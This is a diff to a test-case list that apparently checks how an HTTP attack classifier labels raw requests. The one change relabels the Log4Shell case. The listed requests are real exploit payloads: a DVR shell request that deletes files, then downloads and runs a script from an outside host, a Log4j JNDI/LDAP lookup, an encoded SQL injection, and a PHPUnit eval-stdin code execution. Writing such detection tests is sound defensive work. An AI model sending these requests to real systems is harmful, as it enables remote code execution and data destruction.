@@ -12,7 +12,7 @@ CASES = [
     (b"GET /shell?cd+/tmp;rm+-rf+*;wget+ http://192.0.2.1/a;sh+/tmp/a HTTP/1.1\r\n\r\n",
      "jaws_dvr", "rce"),
     (b"GET / HTTP/1.1\r\nX-Api-Version: ${${lower:J}${::-n}di:ldap://192.0.2.1/a}\r\n\r\n",
-     None, "cve-2021-44228,jndi"),
+     "log4shell", "cve-2021-44228,jndi"),       # the family rule reads http_log4j too
     (b"GET /?id=1%2527%2520UNION%2520SELECT%2520null-- HTTP/1.1\r\n\r\n", None, "sqli"),
     (b"POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1\r\n"
      b"Content-Length: 13\r\n\r\n<?php echo 1;", "phpunit_rce", "cve-2017-9841,php-injection"),
